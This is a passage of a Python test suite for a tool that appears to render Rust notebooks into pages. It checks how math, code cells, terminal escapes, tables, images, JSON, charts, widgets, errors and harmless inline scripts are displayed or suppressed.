        \qquad
        A = \begin{pmatrix} 1 & \rho \\ \rho & 1 \end{pmatrix}, \quad
        B = \begin{bmatrix} 1 & \cdots & 0 \\ \vdots & \ddots & \vdots \\ 0 & \cdots & 1 \end{bmatrix}, \quad
        \begin{vmatrix} a & b \\ c & d \end{vmatrix}
        $$

        $$
        \begin{aligned}
        \min_{w}\quad & w^\top \Sigma w \\
        \text{s.t.}\quad & \mathbf{1}^\top w = 1
        \end{aligned}
        \qquad
        \left[ \begin{array}{cc|c} 1 & 2 & 3 \\ \hline 4 & 5 & 6 \end{array} \right]
        \qquad
        \sum_{\substack{i < j \\ i, j \le n}} a_{ij}
        $$
    """)


@case(
    "24_math_macros",
    text=["defined here", "used there", "and in the last cell"],
    not_text=["\\newcommand", "\\E", "\\norm", "\\Cov", "\\half", "\\def"],
)
def math_macros(book):
    book.markdown(r"""
        Commands defined here: $\newcommand{\E}{\mathbb{E}} \newcommand{\norm}[1]{\left\lVert #1 \right\rVert}$

        $$
        \DeclareMathOperator{\Cov}{Cov}
        \def\half{\tfrac{1}{2}}
        \newcommand{\inner}[2][w]{\langle #1, #2 \rangle}
        $$
    """)
    book.code("let unrelated = 1;")
    book.markdown(
        r"They are used there: $\E[X] = \half$, $\norm{w}^2 = \inner{w}$, $\inner[u]{v}$, $\norm{\frac{a}{b}}$."
    )
    book.markdown(
        r"$\renewcommand{\E}{\operatorname{E}}$ Defined anew, and in the last cell: $$\Cov(X, Y) = \E[XY] - \E[X]\E[Y]$$"
    )


@case(
    "25_math_in_places",
    text=["Heading with", "first item", "nested item", "quoted formula", "in bold", "row one", "linked", "footer"],
    not_text=["$", "\\alpha", "\\beta", "\\sigma"],
)
def math_in_places(book):
    book.markdown(r"""
        # Heading with $\alpha_1$

        ## $\beta$ first

        - first item $x_1$
          - nested item $$\sum_{i} x_i^2$$
        - second item

          $$
          y = X \beta + \varepsilon
          $$

        1. $\sigma > 0$
        2. $\sigma = 0$

        > a quoted formula $e^{i\pi} + 1 = 0$
        >
        > $$
        > a^2 + b^2
        > $$

        **in bold $\alpha$**, *slanted $\beta$*, [linked $\sigma$](https://docs.rs/)

        | name | formula |
        |------|--------:|
        | row one | $\frac{\alpha}{\beta}$ |
        | row two | $\{ x \mid x > 0 \}$, $\vert x \vert$ |

        <b>HTML $\sigma^2$</b> as a footer
    """)


@case("26_dollars", text=["costs $5", "between $10 and $20", "$HOME", "US$ alone", "price of $3.50", "five dollars"])
def dollars(book):
    book.markdown(r"""
        It costs \$5 today, between \$10 and \$20 tomorrow.

        In code: `echo $HOME $PATH`, and a backtick ``` ` ```.

        A US$ alone

        ```bash
        echo "price of $3.50 and $4.50"
        ```

        | item | price |
        |---|---|
        | five dollars | \$5 |

        A formula with one: $x = \$5$.
    """)


@case(
    "27_bad_formulas",
    text=[
        "good before", "bad one", "good between", "bad two", "good after", "thereisnosuchcommand", "never closed",
        "end of the cell", "next cell is fine",
    ],
    warnings=["formula", "formula", "formula"],
)
def bad_formulas(book):
    book.markdown(r"""
        good before: $\frac{1}{2}$

        bad one: $\left( x$

        good between: $\sqrt{2}$

        bad two:

        $$
        \begin{align} a &= b \\ c \end{gather}
        $$

        good after: $e^x$, and bad three: $\thereisnosuchcommand{x}$

        bad four: $\frac{1}{$ never closed

        end of the cell
    """)
    book.markdown(r"next cell is fine: $x^2$")


@case(
    "28_math_and_markdown",
    text=["products", "norms", "compared", "signs at line starts", "like links", "between two", "over and out"],
    not_text=["$", "\\lambda", "<em>", "\\|"],
)
def math_and_markdown(book):
    book.markdown(r"""
        products $x_i * y_i * z_i$ and $a_b$ and $c_d$, $a ** b$ too

        norms $\|w\|_2^2 + \lambda \|w\|_1$ and sets $\{x_i\}_{i=1}^n$

        compared $A < B$ and $C > D$, $a<b>c$, $p(x|y)$, $\langle a, b \rangle$, $x \& y$, $100\,\%$

        like links $[a](b)$, $![a](b)$, $a^*$ and $b^*$, $x~y$, $x\\y$

        signs at line starts

        $$
        x
        = y
        - z
        + 1
        > 0
        \\
        1. z
        $$

        between two $$u_1 * u_2$$ displays $$v_1 * v_2$$ in a line, over and out
    """)


@case(
    "29_math_delimiters",
    text=["double backslash", "bracketed", "single backslash", "(not math)", "[not math]", "block of math", "done now"],
    not_text=["\\beta", "\\gamma", "\\["],
)
def math_delimiters(book):
    book.markdown(r"""
        double backslash \\( \beta_0 + \beta_1 x \\) in a line, and bracketed:

        \\[ \gamma = \frac{a}{b} \\]

        single backslash \(not math\) and \[not math\] are escapes in Markdown

        ```math
        x^2 + y
        ```

        a block of math above, done now
    """)


# --------------------------------------------------------------------------------------------------------- code cells


@case(
    "30_code",
    text=["let returns", "impl Estimator for Mean", "'static", "println!", "0xFF_u8", "mean of the sample", "0.0125"],
)
def code(book):
    book.code("let returns = vec![0.01, -0.02, 0.03, 0.03];")
    book.code("""
        /// Something that is estimated from a sample.
        trait Estimator {
            const NAME: &'static str;
            fn estimate<'a>(&self, sample: &'a [f64]) -> Option<f64>;
        }

        #[derive(Debug, Clone, Copy, Default)]
        struct Mean;

        impl Estimator for Mean {
            const NAME: &'static str = "mean of the sample";
            fn estimate<'a>(&self, sample: &'a [f64]) -> Option<f64> {
                /* none of an empty one */
                (!sample.is_empty()).then(|| sample.iter().sum::<f64>() / sample.len() as f64)
            }
        }
    """)
    book.code(
        'let mask = 0xFF_u8 & !0b1010;\nprintln!("{}: {:?}", Mean::NAME, Mean.estimate(&returns));',
        stream("mean of the sample: Some(0.0125)\n"),
    )
    book.code("Mean.estimate(&returns).unwrap_or(f64::NAN)", result("0.0125"))


def thrice(word, gap):
    """A word three times with gaps, so that no line break can hit all of them."""
    return gap.join([word] * 3)


LONG_WORDS = (
    "START4Q"
    + "abcdefghij" * 13
    + "k"
    + thrice("MIDL7Q", "mnopqrstuvw")
    + "xyz0123456" * 10
    + "l"
    + thrice("TAIL9Q", "pqrstuvwxyz12")
)


@case(
    "31_code_long_lines",
    text=["START4Q", "MIDL7Q", "TAIL9Q", "first_argument", "eleventh_argument", "last_argument", "end of the comment"],
)
def code_long_lines(book):
    assert len(LONG_WORDS) > 300
    book.code(f'let key = "{LONG_WORDS}";')
    arguments = [
        "first", "second", "third", "fourth", "fifth", "sixth", "seventh", "eighth", "ninth", "tenth", "eleventh",
        "twelfth", "thirteenth", "fourteenth", "fifteenth", "sixteenth", "seventeenth", "last",
    ]
    book.code("let fitted = model.fit(" + ", ".join(f"{name}_argument" for name in arguments) + ")?;")
    book.code("let short = 1; // a comment that goes on " + "and on " * 30 + "to the end of the comment\nlet next = 2;")


@case(
    "32_code_long_cell",
    text=["let step_001 =", "let step_060 =", "let step_061 =", "let step_119 =", "step_119 + 1"],
    min_pages=2,
)
def code_long_cell(book):
    body = "\n".join(f"let step_{index:03} = {index} * {index % 7 + 1};" for index in range(1, 120))
    book.code(body + "\nstep_119 + 1", result("120"))


@case(
    "33_code_characters",
    text=["indented by tabs", "mu_hat", "two spaces at the end", "emoji in a string", "no break here", "at sign"],
    text_with_fonts=["let σ² =", "let größe", "日本語", "let α = β"],
)
def code_characters(book):
    book.code('fn tabs() {\n\tif true {\n\t\tprintln!("indented by tabs");\t// after a tab\n\t}\n}', exact=True)
    book.code("let α = β + γ;\nlet größe = 3.0_f64;\nlet mu_hat = 1; // µ̂ with a combining mark")
    book.code('let σ² = "not an identifier in Rust, but someone writes it";', run=True)
    book.code('let text = "日本語, 한국어, עברית";\nlet emoji = "emoji in a string: 🦀 👩‍🔬 🇨🇭";')
    book.code(
        'let trailing = 1;  // two spaces at the end  \n\n\n\nlet zero_width = "a\u200bb";\nlet hard = "no\u00a0break\u00a0here"; // at sign @ref',
        exact=True,
    )


@case(
    "34_code_rust_forms",
    text=[
        ":dep ndarray =", ":dep latentlab", 'r#"a "quoted" word"#', 'r##"ends with "# not here"##', 'b"bytes\\x00"',
        "'\\u{1F600}'", "nested /* comment */", "macro_rules! square", "'outer: loop", "cell of comments only",
        "r#type", "..=9",
    ],
)
def code_rust_forms(book):
    book.code(':dep ndarray = "0.16"\n:dep latentlab = { path = ".." }\nuse latentlab::prelude::*;')
    book.code(r"""
        let raw = r#"a "quoted" word"#;
        let deeper = r##"ends with "# not here"##;
        let bytes = b"bytes\x00";
        let smile = '\u{1F600}';
        let lifetime: &'static str = "tick";
        let escaped = "back\\slash \"quote\" \n";
        let several = "first
            second line of a string";
    """)
    book.code("""
        /* outer /* nested /* comment */ */ still outer */
        macro_rules! square {
            ($x:expr) => { $x * $x };
        }
        let r#type = square!(3);
        'outer: loop {
            for k in 0..=9 { if k == 7 { break 'outer; } }
        };
    """)
    book.code("// a cell of comments only\n//! and another\n/// and a third")
    book.code(":vars", result("r#type: i32"))


@case(
    "35_never_run",
    text=["let ran = 1;", "let never_ran", "before a restart", "the last one ran"],
    warnings=["never-run", "never-run"],
)
def never_run(book):
    book.code("let ran = 1;")
    book.code("", run=False)
    book.code("let never_ran = 2;", run=False)
    book.code("   \n\n", run=False, exact=True)
    book.code('println!("before a restart");', stream("before a restart\n"), run=False)
    book.code('let end = "the last one ran";')


@case(
    "36_no_output",
    text=["prices.mean()", "fn nothing_wrong", "struct Nor", "let this", "prices.median()", "shown 4"],
    warnings=["no-output", "no-output"],
)
def no_output(book):
    book.code("prices.mean()")
    book.code("fn nothing_wrong(x: f64) -> f64 {\n    x + 1.0\n}")
    book.code("struct Nor { here: f64 }\nimpl Nor {\n    fn get(&self) -> f64 { self.here }\n}")
    book.code("let this = 3; // with a comment behind it")
    book.code("use std::collections::HashMap;")
    book.code("prices.median() // a comment: no semicolon;")
    book.code('println!("shown 4");', stream("shown 4\n"))
    book.code('let last = "a string with a ; and ";\n// done\n')
    book.code(':dep rand = "0.9"')


# ------------------------------------------------------------------------------------------------------ text as output


@case(
    "37_streams",
    text=[
        "to the page", "to the errors", "warning: unused variable", "between them", "last of stdout",
        "no newline at the end", "split in two",
    ],
)
def streams(book):
    book.code('println!("to the page");', stream("to the page\n"))
    book.code('eprintln!("to the errors");', stream("to the errors\n", "stderr"))
    book.code(
        "mixed();", stream("stdout one\n"), stream("warning: unused variable\n", "stderr"), stream("between them\n"),
        stream("stderr two\n", "stderr"), stream("last of stdout\n"),
    )
    book.code("print!();", stream("no newline at the end"))
    book.code("halves();", stream("split in "), stream("two pieces\n"))
    book.code("blank();", stream("\n\n  \n"))


@case(
    "38_ansi",
    text=[
        "red text", "bold text", "underlined text", "colour 208", "true colour", "red on white", "reset here",
        "bright green", "linked text", "erased line", "inverse", "several at once", "hidden cursor", "new progress",
        "unfinished",
    ],
    not_text=["[31m", "[0m", "[1;", "[38", "[2K", "]8;;", "\x1b"],
)
def ansi(book):
    e = "\x1b["
    book.code(
        "colours();",
        stream(
            f"{e}31mred text{e}0m, {e}1mbold text{e}22m, {e}4munderlined text{e}24m, {e}3mslanted{e}0m\n"
            f"{e}38;5;208mcolour 208{e}39m, {e}48;5;22mdark ground{e}49m, {e}38;2;40;100;180mtrue colour{e}m\n"
            f"{e}31;47mred on white{e}0m reset here, {e}92mbright green{e}0m, {e}7minverse{e}27m, {e}9mstruck{e}0m, {e}2mfaint{e}0m\n"
            f"{e}1;4;38;5;99mseveral at once{e}0m, {e}38:2::200:90:40mwith colons{e}0m\n"
            f"{e}32mgreen over\ntwo lines{e}0m\n"
        ),
    )
    book.code(
        "cursor();",
        stream(
            f"{e}2K\rerased line\n\x1b]8;;https://docs.rs/\x1b\\linked text\x1b]8;;\x1b\\\n{e}?25lhidden cursor{e}?25h\n"
        ),
        stream(f"{e}33mnever reset\n", "stderr"),
    )
    book.code("up();", stream(f"old progress\n{e}1A{e}2Knew progress\n"))
    book.code("result()", result(f"{e}35munfinished{e}0m {e}3"))


@case(
    "39_progress",
    text=["100 %", "epoch 30", "typed word", "first line of two", "second line of two", "loss 0.125", "finished"],
    not_text=["12 %", "epoch 01", "mistyped", "loss 0.500"],
)
def progress(book):
    bars = "".join(f"\r{share:3} % [{'#' * (share // 10):<10}]" for share in (0, 12, 37, 64, 88, 100))
    book.code("train();", stream(bars + "\nfinished\n", whole=True))
    book.code(
        "epochs();", stream("epoch 01 loss 0.500", whole=True), stream("\repoch 02 loss 0.250", whole=True),
        stream("\repoch 30 loss 0.125\n", whole=True),
    )
    book.code("typed();", stream("mistyped\b\b\b\b\b\b\b\btyped word\n", whole=True))
    book.code("windows();", stream("first line of two\r\nsecond line of two\r\n", whole=True))


@case(
    "40_long_output",
    text=["row 0001", "row 0500", "row 1000", "row 1001", "row 1618", "row 2000", "cell after it"],
    min_pages=12,
)
def long_output(book):
    book.code(
        'for k in 1..=2_000 { println!("row {k:04}"); };',
        stream("".join(f"row {k:04}\n" for k in range(1, 2001)), whole=True),
    )
    book.code('println!("cell after it");', stream("cell after it\n"))


@case(
    "41_long_output_line", text=["HEAD3Z", "MIDS5Z", "TAIL8Z", "word0001", "word0250", "word0500", "[0.001", "0.999]"]
)
def long_output_line(book):
    filler = "0123456789abcdef" * 110
    book.code(
        "one_word();",
        stream(
            thrice("HEAD3Z", "abcdefghijk")
            + filler
            + thrice("MIDS5Z", "abcdefghijk")
            + filler
            + thrice("TAIL8Z", "abcdefghijk")
            + "\n"
        ),
    )
    book.code("many_words();", stream(" ".join(f"word{k:04}" for k in range(1, 501)) + "\n"))
    book.code("values", result("[" + ", ".join(f"{k / 1000:.3f}" for k in range(1, 1000, 2)) + "]"))


@case(
    "42_characters_in_output",
    text=["total", "tab one", "tab two", "plain at the end", "name"],
    text_with_fonts=["┌─", "┆ 1.5", "█▇▅▃", "你好", "こんにちは", "안녕", "Ω ≈ 3", "→ ∞"],
)
def characters_in_output(book):
    book.code(
        "frame",
        result(
            "shape: (2, 2)\n┌───────┬───────┐\n│ name  ┆ value │\n╞═══════╪═══════╡\n│ total ┆ 1.5   │\n│ rest  ┆ 0.25  │\n└───────┴───────┘"
        ),
    )
    book.code("spark();", stream("█▇▅▃▂▁ ░▒▓ ▏▎▍▌▋▊▉\n⠋⠙⠹⠸ ✓ ✗ … “quoted” – — •\n"))
    book.code("greet();", stream("你好 世界 | こんにちは | 안녕하세요 | Ελληνικά | кириллица\n"))
    book.code("crabs();", stream("🦀 🎉 👍🏽 👩‍🔬 🇨🇭 ❤️ plain at the end\n"))
    book.code("tabs();", stream("tab one\tx\ty\nab\ttab two\ty\n"))
    book.code("signs()", result("Ω ≈ 3 ± 0.1, x → ∞, ∑∫∂√, ½ ⅓, x² x₁, é e\u0301"))


@case(
    "43_plain_results",
    text=[
        "Some(3.25)", "Matrix", "[1.0, 0.5]", "two   spaces", "<b>not markup</b>", "*not slanted*", "$not math$",
        "&amp;", "#not-a-heading",
    ],
)
def plain_results(book):
    book.code("maximum(&values)", result("Some(3.25)"))
    book.code("matrix", result("Matrix 2 x 2\n[[1.0, 0.5],\n [0.5, 1.0]]"))
    book.code("text", result('"two   spaces"'))
    book.code(
        "markup", result("<b>not markup</b> *not slanted* $not math$ &amp; `not code` [not](a link) #not-a-heading")
    )


# --------------------------------------------------------------------------------------------------- tables as output


def frame_html(names, kinds, rows, style=True, shape=None):
    """A table as polars writes it."""
    head = "".join(f"<th>{name}</th>" for name in names)
    types = "".join(f"<td>{kind}</td>" for kind in kinds)
    body = "".join("<tr>" + "".join(f"<td>{cell}</td>" for cell in row) + "</tr>" for row in rows)
    css = "<style>\n.dataframe > thead > tr,\n.dataframe > tbody > tr {\n  text-align: right;\n  white-space: pre-wrap;\n}\n</style>\n"
    small = f"<small>shape: {shape}</small>" if shape else ""
    return (
        f'<div>{css if style else ""}{small}<table border="1" class="dataframe"><thead><tr>{head}</tr><tr>{types}</tr></thead>'
        f"<tbody>{body}</tbody></table></div>"
    )


@case(
    "44_frame_polars",
    text=[
        "shape: (1_204, 5)", "ticker", "AAPL", "XOM", "f64", "str", "…", "178.31", "99.07", "null", "A&B", "<unknown>",
        "col19x",
    ],
    not_text=["text-align", "dataframe", "<td", "&hellip;", "┌"],
)
def frame_polars(book):
    rows = [
        ("2021-05-28", "&quot;AAPL&quot;", "178.31", "1204", "true"),
        ("2021-06-01", "&quot;A&amp;B&quot;", "12.5", "88", "false"),
        ("2021-06-02", "&quot;&lt;unknown&gt;&quot;", "null", "null", "null"),
        ("&hellip;", "&hellip;", "&hellip;", "&hellip;", "&hellip;"),
        ("2022-12-27", "&quot;PG&quot;", "-3.25", "7", "true"),
        ("2022-12-28", "&quot;XOM&quot;", "99.07", "5", "true"),
    ]
    html = frame_html(
        ["date", "ticker", "close", "volume", "traded"], ["date", "str", "f64", "i64", "bool"], rows, shape="(1_204, 5)"
    )
    book.code("frame", result({"text/html": html, "text/plain": "┌──────┐\n│ text │\n└──────┘"}))
    names = (
        [f"col{index:02}x" for index in range(1, 10)] + ["&hellip;"] + [f"col{index:02}x" for index in range(17, 20)]
    )
    wide = frame_html(names, ["f64"] * 13, [[f"{row}.{index}" for index in range(13)] for row in range(4)], style=False)
    book.code("wide", result({"text/html": wide, "text/plain": "a frame"}))


@case(
    "45_frame_pandas",
    text=["price", "volume", "mean", "std", "sector", "Energy", "Health", "CVX", "101.5", "8.25", "12 rows"],
    not_text=["halign", "colspan", "<th", "vertical-align"],
)
def frame_pandas(book):
    html = plain("""
        <div>
        <style scoped>
            .dataframe tbody tr th { vertical-align: top; }
        </style>
        <table border="1" class="dataframe">
          <thead>
            <tr><th></th><th></th><th colspan="2" halign="left">price</th><th colspan="2" halign="left">volume</th></tr>
            <tr><th></th><th></th><th>mean</th><th>std</th><th>mean</th><th>std</th></tr>
            <tr><th>sector</th><th>ticker</th><th></th><th></th><th></th><th></th></tr>
          </thead>
          <tbody>
            <tr><th rowspan="2" valign="top">Energy</th><th>CVX</th><td>101.5</td><td>8.25</td><td>12</td><td>3</td></tr>
            <tr><th>XOM</th><td>88.0</td><td>7.5</td><td>15</td><td>4</td></tr>
            <tr><th rowspan="2" valign="top">Health</th><th>JNJ</th><td>160.2</td><td>4.0</td><td>7</td><td>1</td></tr>
            <tr><th>UNH</th><td>490.9</td><td>21.4</td><td>3</td><td>NaN</td></tr>
          </tbody>
        </table>
        <p>12 rows × 4 columns</p>
        </div>
    """)
    book.code("summary", result({"text/html": html, "text/plain": "               price        volume\n"}))


# ---------------------------------------------------------------------------------------------- other kinds of output


@case(
    "46_html_output",
    text=[
        "Fit finished", "inner item", "after 12 rounds", "small caption", "green badge", "converged = true",
        "second block", "a quoted line",
    ],
    not_text=["style=", "<li", "</", "plain fallback", "border-radius"],
    images=1,
)
def html_output(book):
    picture = text_of(bar_png(150, 90, 5, 4))
    html = plain(f"""
        <div style="border: 1px solid #ccc; border-radius: 4px; padding: 8px; font-family: sans-serif">
          <h4 style="margin: 0">Fit finished</h4>
          <ul style="list-style: square">
            <li>outer item<ol><li>inner item <b>after 12 rounds</b></li><li><i>second</i></li></ol></li>
            <li>with <code>converged = true</code></li>
          </ul>
          <span style="background: #d4f0d4; color: #060; padding: 2px">green badge</span>
          <img src="data:image/png;base64,{picture}" alt="bars" width="150">
          <p style="text-align: center; font-size: 80%">small caption</p>
          <blockquote>a quoted line</blockquote><hr>
        </div>
    """)
    book.code("fit.report()", result({"text/html": html, "text/plain": "plain fallback"}))
    book.code("more();", shown({"text/html": "<p>second block<br>with a break, <sup>up</sup> and <sub>down</sub></p>"}))


@case(
    "47_html_only_script",
    text=["before the script", "after the script", "fallback text"],
    not_text=["document.write", "secretword", "require.config"],
    warnings=["unsupported-output"],
)
def html_only_script(book):
    book.code('println!("before the script");', stream("before the script\n"))
    book.code(
        "interactive()",
        result(
            {
                "text/html": "<div id=\"plot-1\"></div>\n<script>\nrequire.config({}); document.write('secretword');\n</script>"
            }
        ),
    )
    book.code(
        "with_text()", result({"text/html": "<script>let secretword = 2;</script>", "text/plain": "fallback text"})
    )
    book.code('println!("after the script");', stream("after the script\n"))


@case(
    "48_markdown_output",
    text=["Report of the fit", "three folds", "0.42", "let best = 0.1;", "and a formula"],
    not_text=["##", "**", "|---", "plain fallback", "\\lambda"],
)
def markdown_output(book):
    text = plain(r"""
        ## Report of the fit

        The best of **three folds**, and a formula $\lambda^*$:

        | fold | loss |
        |---|---|
        | 1 | 0.42 |

        ```rust
        let best = 0.1;
        ```
    """)
    book.code("report()", result({"text/markdown": text, "text/plain": "plain fallback"}))


@case(
    "49_latex_output",
    text=["after the formulas", "aligned below"],
    not_text=["$", "\\displaystyle", "\\begin", "plain fallback"],
)
def latex_output(book):
    book.code(
        "density()",
        result(
            {"text/latex": "$\\displaystyle \\frac{1}{\\sqrt{2 \\pi}} e^{- x^{2} / 2}$", "text/plain": "plain fallback"}
        ),
    )
    book.code('println!("aligned below");', stream("aligned below\n"))
    book.code(
        "system()",
        result(
            {"text/latex": "\\begin{align}\nx + y &= 1 \\\\\nx - y &= 0\n\\end{align}", "text/plain": "plain fallback"}
        ),
    )
    book.code(
        "determinant()",
        result(
            {"text/latex": "$$\\det \\begin{bmatrix} a & b \\\\ c & d \\end{bmatrix}$$", "text/plain": "plain fallback"}
        ),
    )
    book.markdown("after the formulas")


# --------------------------------------------------------------------------------------------------- pictures as output


@case(
    "50_svg",
    text=["below the bars", "below the gradient", "below the tall one", "at the very end"],
    not_text=["<svg", "plain fallback"],
    images=5,
)
def svg_output(book):
    book.code(
        "bars", result({"image/svg+xml": bar_svg("Losses by fold", [3, 5, 2, 8, 6]), "text/plain": "plain fallback"})
    )
    book.markdown("below the bars")
    gradient = svg(
        '<defs>\n<linearGradient id="shade"><stop offset="0" stop-color="#2864b4"/><stop offset="1" stop-color="#c85a28"/></linearGradient>\n'
        '<radialGradient id="round"><stop offset="0" stop-color="#fff"/><stop offset="1" stop-color="#3c965a" stop-opacity="0.4"/></radialGradient>\n'
        '<clipPath id="cut"><circle cx="120" cy="100" r="80"/></clipPath>\n</defs>\n'
        '<rect x="20" y="20" width="200" height="160" fill="url(#shade)" clip-path="url(#cut)"/>\n'
        '<circle cx="340" cy="100" r="80" fill="url(#round)"/>\n<use href="#none"/>\n'
        '<g transform="rotate(20 240 250)" opacity="0.5"><rect x="200" y="230" width="80" height="40"/></g>\n'
    )
    book.code("shades", result({"image/svg+xml": gradient}))
    book.markdown("below the gradient")
    rungs = "".join(
        f'<rect x="10" y="{y}" width="{20 + y // 10}" height="30" fill="#2864b4"/>\n' for y in range(10, 2400, 60)
    )
    book.code("ladder", result({"image/svg+xml": svg(rungs, 300, 2400)}))
    book.markdown("below the tall one")
    bare = '<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n'
    book.code("declared", result({"image/svg+xml": bare + curve_svg("With a declaration", [0.9, 0.4, 0.5, 0.1])}))
    book.code(
        "sizeless",
        result(
            {
                "image/svg+xml": '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 200 100">\n<ellipse cx="100" cy="50" rx="90" ry="40" fill="#3c965a"/>\n</svg>\n'
            }
        ),
    )
    book.markdown("at the very end")


@case(
    "51_png",
    text=["small one", "twice as dense", "see through", "in several lines", "the last words"],
    not_text=["plain fallback", "iVBOR"],
    images=5,
)
def png_output(book):
    book.markdown("small one")
    book.code(
        "small",
        result(
            {"image/png": bar_png(160, 90), "text/plain": "plain fallback"},
            **{"image/png": {"height": 90, "width": 160}},
        ),
    )
    book.markdown("twice as dense")
    book.code(
        "retina",
        result(
            {"image/png": bar_png(800, 500, 11), "text/plain": "plain fallback"},
            **{"image/png": {"height": 250, "width": 400}},
        ),
    )
    book.markdown("see through")
    book.code("glass", result({"image/png": glass_png(90, 60)}, needs_background="light"))
    book.markdown("in several lines")
    wrapped = "\n".join(textwrap.wrap(text_of(bar_png(200, 120, 8, 9)), 76)) + "\n"
    book.code("wrapped", result({"image/png": wrapped}))
    listed = result({"image/png": ""})
    listed["data"]["image/png"] = lines(wrapped)
    book.code("listed", listed)
    book.markdown("the last words")


@case("52_png_shapes", text=["below the tall one", "below the wide one", "below the dot"], images=3)
def png_shapes(book):
    book.code("tall", result({"image/png": ladder_png(400, 3000)}))
    book.markdown("below the tall one")
    book.code("wide", result({"image/png": bar_png(3000, 200, 60)}))
    book.markdown("below the wide one")
    book.code("dot", result({"image/png": png(1, 1, lambda y: b"\xc8\x5a\x28")}))
    book.markdown("below the dot")


@case("53_jpeg_gif", text=["a photograph", "two frames", "the end"], not_text=["/9j/", "R0lG"], images=2)
def jpeg_gif(book):
    book.markdown("a photograph")
    book.code("photo", result({"image/jpeg": SMALL_JPEG, "text/plain": "<image>"}))
    book.markdown("two frames")
    book.code("moving", shown({"image/gif": MOVING_GIF}))
    book.markdown("the end")


@case(
    "54_json_javascript",
    text=["learning_rate", "0.0125", "layers", "deepest", "seen as text", "after all of them"],
    not_text=["alert(", "secretword"],
    warnings=["unsupported-output"],
)
def json_javascript(book):
    value = {"learning_rate": 0.0125, "layers": [64, 32, 1], "nested": {"deeper": {"deepest": None}}, "on": True}
    book.code(
        "settings", result({"application/json": value}, **{"application/json": {"expanded": False, "root": "root"}})
    )
    book.code("script();", shown({"application/javascript": "alert('secretword');"}))
    book.code(
        "script_with_text();", shown({"application/javascript": "alert('secretword');", "text/plain": "seen as text"})
    )
    book.markdown("after all of them")


VEGA = {
    "$schema": "https://vega.github.io/schema/vega-lite/v5.json",
    "data": {"values": [{"fold": 1, "loss": 0.4}, {"fold": 2, "loss": 0.3}]},
    "mark": "bar",
    "encoding": {"x": {"field": "fold"}, "y": {"field": "loss"}},
}


@case(
    "55_vega",
    text=["with a picture", "with text", "VegaLite chart", "with nothing", "at the end"],
    not_text=["schema/vega", "first fallback"],
    images=1,
    warnings=["unsupported-output"],
)
def vega(book):
    mime = "application/vnd.vegalite.v5+json"
    book.markdown("with a picture")
    book.code("chart", result({mime: VEGA, "image/png": bar_png(200, 120, 2, 4), "text/plain": "first fallback"}))
    book.markdown("with text")
    book.code("chart", result({mime: VEGA, "text/plain": "<VegaLite chart>"}))
    book.markdown("with nothing")
    book.code("chart", shown({mime: VEGA}))
    book.markdown("at the end")


@case(
    "56_widget", text=["IntSlider(value=3", "below the slider"], not_text=["model_id", "f0e1d2c3"],
    warnings=["unsupported-output"],
)
def widget(book):
    view = {"model_id": "f0e1d2c3b4a5968778695a4b3c2d1e0f", "version_major": 2, "version_minor": 0}
    mime = "application/vnd.jupyter.widget-view+json"
    book.code("slider", result({mime: view, "text/plain": "IntSlider(value=3, max=10)"}))
    book.code("bare", shown({mime: view}))
    book.markdown("below the slider")


@case(
    "57_errors",
    text=[
        "mismatched types", "expected f64, found", "let mean: f64", "cell stops here", "Division", "by zero in a test",
        "without a traceback", "index out of bounds",
    ],
    not_text=["[31m", "[0m", "[1m"],
    warnings=["error", "error", "error"],
)
def errors(book):
    e = "\x1b["
    book.code(
        'let mean: f64 = "three";',
        error(
            "E0308",
            "mismatched types",
            [
                f"{e}91m[E0308] Error:{e}0m mismatched types",
                f"   {e}38;5;246m╭{e}0m{e}38;5;246m─{e}0m{e}38;5;246m[{e}0mcommand_2:1:1{e}38;5;246m]{e}0m",
                f"   {e}38;5;246m│{e}0m",
                f' {e}38;5;246m1 │{e}0m {e}38;5;249mlet mean: {e}0m{e}38;5;54mf64{e}0m{e}38;5;249m = {e}0m{e}31m"three"{e}0m;',
                f"   {e}38;5;246m│{e}0m            {e}38;5;54m─┬─{e}0m   {e}31m───┬───{e}0m",
                f"   {e}38;5;246m│{e}0m             {e}38;5;54m╰─────────{e}0m expected due to this",
                f"   {e}38;5;246m│{e}0m                     {e}31m╰───{e}0m expected f64, found {e}1m&str{e}0m",
                f"   {e}38;5;246m╰{e}0m",
            ],
        ),
    )
    book.code(
        'println!("cell stops here");\nvalues[9]',
        stream("cell stops here\n"),
        error(
            "Panic",
            "index out of bounds: the len is 4",
            [f"{e}31mpanicked at{e}0m cell 3, line 2:", "index out of bounds: the len is 4 but the index is 9"],
        ),
    )
    book.code("ratio(1.0, 0.0)?", error("Division", "by zero in a test without a traceback", []))


@case(
    "58_several_outputs",
    text=["first text", "second text", "CVX", "third text", "last value", "a warning of it"],
    not_text=["plain fallback"],
    images=3,
)
def several_outputs(book):
    book.code(
        "everything()",
        stream("first text\n"),
        shown({"image/svg+xml": bar_svg("First figure", [2, 4, 3]), "text/plain": "plain fallback"}),
        stream("second text\n"),
        shown(
            {
                "text/html": frame_html(["ticker", "beta"], ["str", "f64"], [("CVX", "1.1"), ("KO", "0.6")]),
                "text/plain": "plain fallback",
            }
        ),
        shown({"image/png": bar_png(200, 120), "text/plain": "plain fallback"}),
        shown({"image/png": bar_png(200, 120, 5, 1), "text/plain": "plain fallback"}),
        stream("a warning of it\n", "stderr"),
        stream("third text\n"),
        result('"last value"'),
    )


@case(
    "59_richest",
    text=["table wins", "slanted wins", "text of last resort", "end of the choices"],
    not_text=["plain loses"],
    images=3,
    warnings=["unsupported-output"],
)
def richest(book):
    book.code(
        "figure",
        result(
            {
                "text/plain": "plain loses",
                "image/png": bar_png(160, 100),
                "image/svg+xml": bar_svg("SVG wins", [1, 2, 3]),
            }
        ),
    )
    book.code("table", shown({"text/plain": "plain loses", "text/html": "<table><tr><td>table wins</td></tr></table>"}))
    book.code("formula", shown({"text/plain": "plain loses", "text/latex": "$\\lambda^2$"}))
    book.code("prose", shown({"text/plain": "plain loses", "text/markdown": "_slanted wins_"}))
    book.code(
        "script",
        shown({"text/html": "<script>1</script>", "image/png": bar_png(160, 100, 4, 2), "text/plain": "plain loses"}),
    )
    book.code("foreign", shown({"application/x-unknown": "abc", "image/jpeg": SMALL_JPEG, "text/plain": "plain loses"}))
    book.code("only", shown({"application/x-unknown": "abc", "text/plain": "text of last resort"}))
    book.code("nothing", shown({"application/x-unknown": "abc"}))
    book.code("empty", shown({}))
    book.markdown("end of the choices")


